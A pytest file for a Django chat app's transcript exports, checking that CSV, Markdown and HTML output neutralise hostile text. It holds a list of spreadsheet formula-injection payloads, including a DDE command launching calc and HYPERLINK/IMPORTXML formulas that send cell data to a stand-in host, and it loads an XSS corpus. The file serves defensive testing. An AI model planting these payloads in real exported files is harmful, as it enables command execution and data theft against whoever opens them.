"""What each format makes of hostile text: no cell is a formula, no fence is left, no markup is anybody's but ours.

One file, since all formats are tried on the same rows.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.utils import timezone

from chat.models import ChatSession, Event, EventType, Feedback, Run, RunState
from chat.transcripts import parts as making
from chat.transcripts.forms import FORMS
from chat.transcripts.markdown import fenced, inline
from chat.transcripts.parts import Cursor, parts, read_part
from chat.transcripts.printable import POLICY, STYLE
from chat.transcripts.table import COLUMNS, row
from tests.transcripts.files import select, written
from tests.transcripts.variety import TEXTS, Variety

pytestmark = pytest.mark.django_db

CORPUS: list[str] = [
    vector["text"] for vector in json.loads((Path(__file__).parents[1] / "xss.json").read_text(encoding="utf-8"))
]
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '=IMPORTXML("https://evil.example","//a")',
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "-2+3+cmd|' /C calc'!D2",
    '","=1+1',
    '"\r\n=1+1',
    ";=1+1",
    "'=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def make_session(text: str, public_id: str = "s", *, owner: str = "owner") -> ChatSession:
    """A session in which everybody says the text wherever he can."""
    user, _ = User.objects.get_or_create(username=owner)
    session = ChatSession.objects.create(public_id=public_id, owner=user, title=text[:120], agent=text[:64])
    now = timezone.now()
    run = Run.objects.create(
        session=session,
        client_id="c",
        seq=1,
        message=text,
        agent=text[:64],
        model=text[:128],
        state=RunState.COMPLETED,
        started_at=now,
        ended_at=now,
        error_code=text[:32],
    )
    Feedback.objects.create(run=run, thumb=Feedback.DOWN, comment=text)
    facts: list[tuple[EventType, str, dict[str, Any]]] = [
        (EventType.MESSAGE, "", {}),
        (EventType.RUN_START, "", {"model": text, "reason": text}),
        (EventType.STEP, "thought", {}),
        (EventType.STEP, "tool_use", {"arguments": {text: [text]}}),
        (EventType.STEP, "tool_result", {"is_error": True, "code": text}),
        (EventType.STEP, "error", {"code": text}),
        (EventType.STEP, "final_answer", {}),
        (EventType.RUN_END, "", {"state": text, "started": True, "message": text}),
    ]
    for seq, (kind, step_type, data) in enumerate(facts, start=1):
        has_tool = "tool" in step_type
        Event.objects.create(
            session=session,
            run=run,
            seq=seq,
            type=kind,
            attempt=1,
            step=seq if step_type else None,
            step_type=step_type,
            iteration=1 if step_type else None,
            tool_name=text[:128] if has_tool else "",
            call_id=text[:128] if has_tool else "",
            content="" if kind == EventType.RUN_START else text,
            data=data,
            created_at=now,
        )
    session.head = len(facts)
    session.save()
    return session


def table(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


# --- CSV ---


@pytest.mark.parametrize("text", [*FORMULAS, *TEXTS])
def test_no_cell_is_a_formula_and_none_is_left_by_its_text(text: str) -> None:
    make_session(text)
    content = written("csv")
    rows = table(content)
    assert len(rows) == 5
    for cells in rows:
        assert list(cells) == list(COLUMNS)
        for name, cell in cells.items():
            assert not cell.startswith(STARTS), name
    assert {cells["content"].removeprefix("'") for cells in rows} == {text.removeprefix("'").replace("\0", "\ufffd")}


def test_a_text_that_is_no_formula_is_as_it_was() -> None:
    assert row(["a\nb", "c\r\nd", 'say "x", y', 5, None]) == '"a\nb","c\r\nd","say ""x"", y","5",""\r\n'


def test_a_spreadsheet_knows_the_encoding_and_there_is_one_row_for_each_step() -> None:
    Variety(1).fill(4)
    content = written("csv")
    assert content.startswith(b'\xef\xbb\xbf"session",')
    assert len(table(content)) == Event.objects.filter(type=EventType.STEP).count()


# --- Markdown ---


@pytest.mark.parametrize(
    "text", [*CORPUS, *TEXTS, "```", "~~~", "`" * 50 + "\n# x", "```\n```text\n<b>", "\n```\n\n<img>"]
)
def test_text_stays_in_its_fence(text: str) -> None:
    """By the rule of CommonMark: a fence ends at a line of at least as many of its signs, and of nothing else."""
    make_session(text)
    outside, fence = [], ""
    for line in re.split(r"\r\n|\n|\r", written("md").decode()):
        if fence:
            if re.fullmatch(rf" {{0,3}}`{{{len(fence)},}}[ \t]*", line):
                fence = ""
        elif found := re.fullmatch(r"(`{3,})text", line):
            fence = found[1]
        else:
            outside.append(line)
    assert not fence
    for line in outside:
        assert re.fullmatch(
            r"(#{1,4} .*)?|[0-9T:.Z-]+|\*(Attempt \d+ begins|Run .* at \S+)\.\*|.* · .*|.*, `[\w-]+`.*", line
        ), line
        # Nothing but our own signs is left unescaped: no markup, no link, no image.
        bare = re.sub(r"\\[!-/:-@\[-`{-~]", "", line)
        assert not re.search(r"[<>\[\]|~_!&]", bare), line


@pytest.mark.parametrize("text", [*CORPUS, *TEXTS])
def test_a_line_is_one_line_of_plain_text(text: str) -> None:
    line = inline(text)
    assert len(line.splitlines()) <= 1
    assert not re.search(r"(?<!\\)[<>\[\]*_`#|]", re.sub(r"\\\\", "", line))
    assert not re.search("[\u202a-\u202e\u2066-\u2069\0]", line)


def test_a_fence_is_longer_than_any_within() -> None:
    assert fenced("a ````` b") == "``````text\na ````` b\n``````\n"
    assert fenced("") == "```text\n```\n"


# --- HTML ---


@pytest.mark.parametrize("text", [*CORPUS, *TEXTS])
def test_the_page_has_no_markup_but_ours(text: str) -> None:
    make_session(text)
    page = written("html").decode()
    allowed = {
        *"!doctype html head meta title style body main h1 h2 h3 h4 p div section article pre time code bdi span".split()
    }
    assert {name.lower() for name in re.findall(r"<\s*/?\s*([!\w]+)", page)} <= allowed
    assert page.count("<script") == page.count("<img") == 0
    for attribute in re.findall(r"<[^>]*>", page.replace(STYLE, "")):
        assert not re.search(r"\s(on\w+|style|src|href|srcset|action)\s*=", attribute), attribute


def test_the_page_lets_nothing_run_or_load_and_can_be_printed() -> None:
    assert POLICY.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in POLICY
    assert "@media print" in STYLE
    for colour in ("#e3f2fd", "#fff3e0", "#f3e5f5", "#e8f5e9", "#ffebee"):
        assert colour in STYLE


# --- data sets ---


def test_messages_are_what_the_model_saw() -> None:
    session = _calculated()
    (line,) = written("messages").decode().splitlines()
    example = json.loads(line)
    assert example["messages"] == [
        {"role": "user", "content": "What is 6*7?"},
        {
            "role": "assistant",
            "content": "Let me see.",
            "tool_calls": [
                {
                    "id": "call-1",
                    "type": "function",
                    "function": {"name": "calculator", "arguments": '{"expression": "6*7"}'},
                }
            ],
        },
        {"role": "tool", "tool_call_id": "call-1", "content": "42"},
        {"role": "assistant", "content": "It is 42."},
    ]
    assert example["metadata"]["session"] == session.public_id
    assert all(isinstance(value, str) for value in example["metadata"].values())


@pytest.mark.parametrize(("thumb", "label"), [(Feedback.UP, True), (Feedback.DOWN, False), (None, None)])
def test_a_pair_has_the_feedback_as_its_label(thumb: int | None, label: bool | None) -> None:
    session = _calculated()
    if thumb:
        Feedback.objects.create(run=session.runs.get(), thumb=thumb, comment="why")
    pair = json.loads(written("pairs"))
    assert (pair["prompt"], pair["answer"], pair["label"]) == ("What is 6*7?", "It is 42.", label)
    assert pair["comment"] == ("why" if thumb else "")


@pytest.mark.parametrize("form", ["messages", "pairs"])
@pytest.mark.parametrize("state", [RunState.FAILED, RunState.STOPPED, RunState.QUEUED])
def test_a_run_without_an_answer_is_in_no_data_set(form: str, state: RunState) -> None:
    session = _calculated()
    ended_at = None if state == RunState.QUEUED else timezone.now()
    Run.objects.filter(session=session).update(state=state, ended_at=ended_at)
    if state == RunState.QUEUED:
        # Beside the back of what keeps events from being deleted.
        Event.objects.filter(type=EventType.RUN_END)._raw_delete("default")
    assert written(form) == b""


def test_an_example_has_what_came_before_it() -> None:
    session = _calculated()
    first = session.runs.get()
    second = Run.objects.create(
        session=session,
        parent=first,
        client_id="c2",
        seq=10,
        message="And 6*8?",
        agent="a",
        state=RunState.COMPLETED,
        ended_at=timezone.now(),
    )
    for seq, (kind, step_type) in enumerate([("message", ""), ("step", "final_answer"), ("run_end", "")], start=10):
        Event.objects.create(
            session=session,
            run=second,
            seq=seq,
            type=kind,
            step=1 if step_type else None,
            step_type=step_type,
            content="48",
            data={"state": "completed", "started": True} if kind == "run_end" else {},
            created_at=timezone.now(),
        )
    *_, last = written("messages").splitlines()
    said = json.loads(last)["messages"]
    assert [message["role"] for message in said] == ["user", "assistant", "tool", "assistant", "user", "assistant"]
    assert said[-1]["content"] == "48"


def _calculated() -> ChatSession:
    user = User.objects.create(username="ada")
    session = ChatSession.objects.create(public_id="s", owner=user, agent="a")
    now = timezone.now()
    run = Run.objects.create(
        session=session,
        client_id="c",
        seq=1,
        message="What is 6*7?",
        agent="a",
        model="m",
        state=RunState.COMPLETED,
        started_at=now,
        ended_at=now,
    )
    steps: list[dict[str, Any]] = [
        {"type": "message", "content": run.message},
        {"step_type": "thought", "content": "secret thinking", "iteration": 1, "data": {"reasoning": True}},
        {"step_type": "thought", "content": "Let me see.", "iteration": 1},
        {
            "step_type": "tool_use",
            "iteration": 1,
            "tool_name": "calculator",
            "call_id": "call-1",
            "data": {"arguments": {"expression": "6*7"}},
        },
        {"step_type": "tool_result", "iteration": 1, "tool_name": "calculator", "call_id": "call-1", "content": "42"},
        {"step_type": "final_answer", "iteration": 2, "content": "It is 42."},
        {"type": "run_end", "data": {"state": "completed", "started": True}},
    ]
    for seq, fields in enumerate(steps, start=1):
        step = {"type": "step", "step": seq} if "step_type" in fields else {}
        Event.objects.create(session=session, run=run, seq=seq, created_at=now, **(step | fields))
    return session


# --- parts ---


@pytest.mark.parametrize("form", FORMS)
def test_a_file_is_the_same_whatever_its_parts_are(form: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Parts of any size, windows and slices of the log of any length: the bytes are the same, and each part is so when it is made
    again.
    """
    Variety(7).fill(3)
    selection = select()
    whole = written(form, selection)
    for size, runs, window, length in [(1, 1, 1, 1), (200, 3, 2, 3), (5000, 200, 7, 5), (10**6, 2, 3, 1000)]:
        for name, value in (("PART_SIZE", size), ("PART_RUNS", runs), ("WINDOW", window), ("SLICE", length)):
            monkeypatch.setattr(making, name, value)
        at: Cursor | None = Cursor()
        content = b""
        while at is not None:
            part = read_part(selection, FORMS[form], at)
            if size != 1:
                again = read_part(selection, FORMS[form], Cursor.parse(str(at)))
                assert (again.content, again.next) == (part.content, part.next)
            content += part.content
            at = part.next
        assert content == whole


@pytest.mark.parametrize("form", FORMS)
def test_what_happens_later_is_no_part_of_it(form: str) -> None:
    """A run under way goes on, and ends, and is asked again: the file that was asked for before stays what it was."""
    for seed in range(6):
        Variety(seed).fill(3)
    selection = select()
    before = written(form, selection)
    for run in Run.objects.filter(state=RunState.RUNNING):
        session = run.session
        for kind, more in (
            (EventType.STEP, {"step": 99, "step_type": "thought", "content": "later"}),
            (EventType.RUN_END, {"data": {"state": "completed", "started": True}}),
        ):
            session.head += 1
            Event.objects.create(
                session=session, run=run, seq=session.head, type=kind, created_at=timezone.now(), **more
            )
        run.state, run.ended_at, run.input_tokens, run.worker = RunState.COMPLETED, timezone.now(), 77, "later"
        run.save()
    assert Run.objects.filter(worker="later").exists()
    assert written(form, selection) == before


def test_a_part_takes_as_many_queries_for_many_sessions_as_for_few(django_assert_max_num_queries: Any) -> None:
    Variety(7).fill(4)
    for number in range(30):
        make_session("text", f"s{number}", owner=f"user-{number}")
    selection = select()
    with django_assert_max_num_queries(8 + 6 * (len(selection.runs) // making.WINDOW + 1)):
        list(parts(selection, FORMS["csv"]))
